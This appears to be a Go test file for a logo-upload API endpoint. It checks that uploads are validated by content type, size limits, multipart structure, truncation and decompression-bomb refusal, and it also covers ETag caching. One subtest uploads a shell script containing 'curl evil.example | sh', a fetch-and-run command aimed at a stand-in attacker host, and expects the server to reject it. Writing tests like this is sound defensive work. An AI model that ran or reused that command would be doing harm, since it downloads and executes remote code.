package communityhttp_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"io"
	"io/fs"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/civicdatatrust/civictrust/adapters/http/apitest"
	"github.com/civicdatatrust/civictrust/adapters/http/communityhttp"
)

// cmPNG is a w×h PNG.
func cmPNG(t *testing.T, w, h int) []byte { return communityhttp.TestPNG(t, w, h) }

// cmMultipart builds a multipart/form-data body with one file part.
func cmMultipart(t *testing.T, field, filename, contentType string, data []byte) (body []byte, header string) {
	t.Helper()
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	_ = w.WriteField("note", "ignored") // a part before the file
	h := textproto.MIMEHeader{}
	h.Set("Content-Disposition", `form-data; name="`+field+`"; filename="`+filename+`"`)
	h.Set("Content-Type", contentType)
	part, err := w.CreatePart(h)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = part.Write(data)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes(), w.FormDataContentType()
}

// cmUpload sends PUT /{id}/logo with data as the "file" part.
func cmUpload(t *testing.T, app *apitest.App, token, id, filename, contentType string, data []byte) *apitest.Response {
	t.Helper()
	body, ct := cmMultipart(t, "file", filename, contentType, data)
	return app.Do(apitest.Req{Method: http.MethodPut, Path: cmPath(id, "/logo"), Token: token, Body: body,
		Header: map[string]string{"Content-Type": ct}})
}

// cmBlobCount counts the files of the fs blob store.
func cmBlobCount(t *testing.T, app *apitest.App) int {
	t.Helper()
	n := 0
	_ = filepath.WalkDir(app.Config.BlobDir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if d.IsDir() && d.Name() == ".tmp" {
			return filepath.SkipDir
		}
		if d.Type().IsRegular() {
			n++
		}
		return nil
	})
	return n
}

func sha(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

func TestLogos(t *testing.T) {
	app := apitest.Start(t)
	owner := cmNewUser(t, app, "Olive Owner")
	oscar := cmNewUser(t, app, "Oscar Outsider")
	id := cmCreateID(t, app, owner.Token, "Riverside")
	logo := cmPath(id, "/logo")

	t.Run("no_logo_yet_is_404", func(t *testing.T) {
		cmError(t, app.Get(logo, oscar.Token), http.StatusNotFound, "logo_not_found")
		for _, bad := range apitest.BadIDs() {
			cmError(t, app.Get(cmPath(bad, "/logo"), oscar.Token), http.StatusNotFound, "community_not_found")
			cmError(t, cmUpload(t, app, owner.Token, bad, "a.png", "image/png", cmPNG(t, 4, 4)), http.StatusNotFound, "community_not_found")
		}
		cmError(t, cmUpload(t, app, oscar.Token, id, "a.png", "image/png", cmPNG(t, 4, 4)), http.StatusForbidden, "not_community_admin")
	})

	pngData := cmPNG(t, 48, 32)
	t.Run("a_png_named_exe_is_accepted_and_served_byte_identical", func(t *testing.T) {
		c := cmUpload(t, app, owner.Token, id, "logo.exe", "application/x-msdownload", pngData).Expect(t, http.StatusOK).JSON()
		cmCheckCommunity(t, c)
		if c["logo"] != "/api/v1/communities/"+id+"/logo" {
			t.Errorf("logo = %v", c["logo"])
		}
		if got := app.Get(cmPath(id), oscar.Token).JSON()["logo"]; got != c["logo"] {
			t.Errorf("GET shows logo %v", got)
		}
		r := app.Get(logo, oscar.Token).Expect(t, http.StatusOK)
		if !bytes.Equal(r.Body, pngData) {
			t.Errorf("served %d bytes, not the %d uploaded", len(r.Body), len(pngData))
		}
		if ct := r.Header.Get("Content-Type"); ct != "image/png" {
			t.Errorf("Content-Type %q", ct)
		}
		etag := `"` + sha(pngData) + `"`
		if got := r.Header.Get("ETag"); got != etag {
			t.Errorf("ETag %q, want %q", got, etag)
		}
		nm := app.Do(apitest.Req{Method: http.MethodGet, Path: logo, Token: oscar.Token, Header: map[string]string{"If-None-Match": etag}})
		if nm.Status != http.StatusNotModified || len(nm.Body) != 0 || nm.Header.Get("ETag") != etag {
			t.Errorf("If-None-Match: %d %q %q", nm.Status, nm.Header.Get("ETag"), nm.Body)
		}
		stale := app.Do(apitest.Req{Method: http.MethodGet, Path: logo, Token: oscar.Token, Header: map[string]string{"If-None-Match": `"stale"`}})
		if stale.Status != http.StatusOK || !bytes.Equal(stale.Body, pngData) {
			t.Errorf("stale If-None-Match: %d", stale.Status)
		}
	})

	t.Run("jpeg_and_webp_are_accepted_and_replace_the_old_blob", func(t *testing.T) {
		blobs := cmBlobCount(t, app)
		for _, img := range []struct {
			data []byte
			ct   string
		}{
			{communityhttp.TestJPEG(t, 40, 30), "image/jpeg"},
			{communityhttp.TestWebP(t), "image/webp"},
		} {
			cmUpload(t, app, owner.Token, id, "picture", "application/octet-stream", img.data).Expect(t, http.StatusOK)
			r := app.Get(logo, owner.Token).Expect(t, http.StatusOK)
			if !bytes.Equal(r.Body, img.data) || r.Header.Get("Content-Type") != img.ct {
				t.Errorf("%s: served %d bytes as %q", img.ct, len(r.Body), r.Header.Get("Content-Type"))
			}
			if got := cmBlobCount(t, app); got != blobs {
				t.Errorf("%s: %d blobs, want %d: the replaced logo must go", img.ct, got, blobs)
			}
		}
	})

	t.Run("a_script_named_png_is_415", func(t *testing.T) {
		r := cmUpload(t, app, owner.Token, id, "logo.png", "image/png", []byte("#!/bin/sh\ncurl evil.example | sh\n"))
		cmError(t, r, http.StatusUnsupportedMediaType, "unsupported_logo_type")
	})

	t.Run("a_3_MiB_jpeg_is_413", func(t *testing.T) {
		big := communityhttp.TestJPEG(t, 64, 64)
		big = append(big, make([]byte, 3<<20-len(big))...) // padding after the image's end
		cmError(t, cmUpload(t, app, owner.Token, id, "big.jpg", "image/jpeg", big), http.StatusRequestEntityTooLarge, "logo_too_large")
	})

	t.Run("a_chunked_body_with_a_large_part_after_the_logo_is_413", func(t *testing.T) {
		// The whole body is bounded, not only the file part: chunked, it
		// declares no length for the server to refuse up front.
		var head bytes.Buffer
		w := multipart.NewWriter(&head)
		part, _ := w.CreateFormFile("file", "small.png")
		_, _ = part.Write(cmPNG(t, 8, 8))
		_, _ = w.CreateFormField("padding")
		body := io.MultiReader(bytes.NewReader(bytes.Clone(head.Bytes())), io.LimitReader(zeroReader{}, 8<<20), strings.NewReader("\r\n--"+w.Boundary()+"--\r\n"))
		r := app.Do(apitest.Req{Method: http.MethodPut, Path: cmPath(id, "/logo"), Token: owner.Token, Body: body,
			Header: map[string]string{"Content-Type": w.FormDataContentType()}})
		cmError(t, r, http.StatusRequestEntityTooLarge, "logo_too_large")
	})

	t.Run("two_file_parts_are_422", func(t *testing.T) {
		var b bytes.Buffer
		w := multipart.NewWriter(&b)
		for range 2 {
			part, _ := w.CreateFormFile("file", "logo.png")
			_, _ = part.Write(cmPNG(t, 8, 8))
		}
		_ = w.Close()
		r := app.Do(apitest.Req{Method: http.MethodPut, Path: cmPath(id, "/logo"), Token: owner.Token, Body: b.Bytes(),
			Header: map[string]string{"Content-Type": w.FormDataContentType()}})
		cm422(t, r, "value_error", "body", "file")
	})

	t.Run("a_truncated_png_is_422", func(t *testing.T) {
		cut := cmPNG(t, 64, 64)
		cut = cut[:len(cut)/2]
		probs := cm422(t, cmUpload(t, app, owner.Token, id, "cut.png", "image/png", cut), "value_error", "body", "file")
		if !strings.Contains(probs[0].Msg, "decoded") {
			t.Errorf("msg %q", probs[0].Msg)
		}
	})

	t.Run("a_20000x20000_png_bomb_is_refused_without_decoding", func(t *testing.T) {
		bomb := communityhttp.PNGBomb(t, 20000, 20000)
		began := time.Now()
		probs := cm422(t, cmUpload(t, app, owner.Token, id, "bomb.png", "image/png", bomb), "value_error", "body", "file")
		if !strings.Contains(probs[0].Msg, "4096") {
			t.Errorf("msg %q", probs[0].Msg)
		}
		if d := time.Since(began); d > 2*time.Second {
			t.Errorf("took %v: the bomb was decoded", d)
		}
	})

	t.Run("the_logo_is_unchanged_by_refused_uploads", func(t *testing.T) {
		r := app.Get(logo, owner.Token).Expect(t, http.StatusOK)
		if !bytes.Equal(r.Body, communityhttp.TestWebP(t)) {
			t.Errorf("the logo changed")
		}
	})

	t.Run("not_multipart_is_415_and_no_file_part_is_422", func(t *testing.T) {
		cmError(t, app.Put(logo, owner.Token, map[string]any{"file": "x"}), http.StatusUnsupportedMediaType, "unsupported_media_type")
		body, ct := cmMultipart(t, "picture", "a.png", "image/png", cmPNG(t, 4, 4))
		r := app.Do(apitest.Req{Method: http.MethodPut, Path: logo, Token: owner.Token, Body: body, Header: map[string]string{"Content-Type": ct}})
		cm422(t, r, "missing", "body", "file")
	})
}

// zeroReader yields zero bytes without end.
type zeroReader struct{}

func (zeroReader) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}
